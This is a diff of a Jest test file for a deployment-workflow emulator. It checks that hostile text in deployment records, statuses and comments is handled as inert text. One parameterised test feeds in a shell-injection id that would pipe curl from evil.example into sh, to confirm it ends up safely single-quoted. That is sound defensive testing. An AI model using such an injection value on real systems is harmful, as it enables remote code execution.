@@ -1,16 +1,24 @@
 // Whoever has `deployments: write` can write records, statuses and comments: what they contain is text, and leads nowhere.
-import { afterEach, beforeEach, describe, expect, test } from "@jest/globals";
+import { describe, expect, test } from "@jest/globals";
 import type { StepRun } from "../../emulator/runner/step.js";
 import { rendered } from "../../scripts/demo/rendering.js";
+import { minute } from "../../src/base/clock.js";
 import { expectHarmless, expectNoMentions, expectPrintable } from "../hostile-text.js";
 import { processesOnly } from "../platform.js";
-import { BundleWorld } from "./bundle-world.js";
+import type { ActionRun } from "../world/step.js";
+import { eachWorld, type World } from "../world.js";
+import { workflow } from "./workflow.js";
 
-let world: BundleWorld;
-beforeEach(async () => {
-  world = await BundleWorld.start();
-});
-afterEach(() => world.close());
+let world: World;
+eachWorld((started) => {
+  world = started;
+}, workflow);
+
+/** A sweep, to which the records are old enough. */
+function sweep(inputs: Readonly<Record<string, string>>): Promise<ActionRun> {
+  world.clock.time += 11 * minute;
+  return world.sweep(inputs);
+}
 
 const definition = "{ name: app, type: STANDARD, schedulerSize: MEDIUM }";
 const inputs = { definition, "deployment-name": "", "pull-request-comment": "true" };
@@ -64,18 +72,18 @@ describe.each(urls.filter((_, index) => processesOnly || index % 3 === 0))(
     test("a sweep's table, a closed preview, and its comment link to no other host", async () => {
       await world.preview("opened", inputs);
       poison(url);
-      expectHarmlessRun(await world.schedule({ ...inputs, "dry-run": "true" }));
+      expectHarmlessRun(await sweep({ ...inputs, "dry-run": "true" }));
       expectHarmlessRun(await world.preview("closed", inputs));
       poison(url);
-      expectHarmlessRun(await world.schedule(inputs));
+      expectHarmlessRun(await sweep(inputs));
     });
 
     test("warnings of unfinished creates, and the refusal of a second create, show it as text", async () => {
       world.service.inject({ operation: "create-deployment", mishap: { status: 502 }, times: 2 });
       await world.preview("opened", inputs);
-      await world.manual(production);
+      await world.step(production);
       poison(url);
-      expectHarmlessRun(await world.manual(production));
+      expectHarmlessRun(await world.step(production));
       expectHarmlessRun(await world.preview("synchronize", inputs));
     });
   },
@@ -84,10 +92,10 @@ describe.each(urls.filter((_, index) => processesOnly || index % 3 === 0))(
 test.each(["x';curl${IFS}evil.example|sh;'", "`curl`", "--help", "@octocat"])(
   "the command that releases a record has the id %j in single quotes",
   async (id) => {
-    await world.manual(production);
+    await world.step(production);
     const [record] = world.github.state.records;
     for (const status of record?.statuses ?? []) Object.assign(status, { description: `deployed id=${id}` });
-    const run = await world.manual(production);
+    const run = await world.step(production);
     expect(run.outputs["outcome"]).toBe("not-sent");
     expect(run.log).toContain(
       `-f description='gone id=${id.replaceAll("'", "'\\''")}' -F auto_inactive=false`,
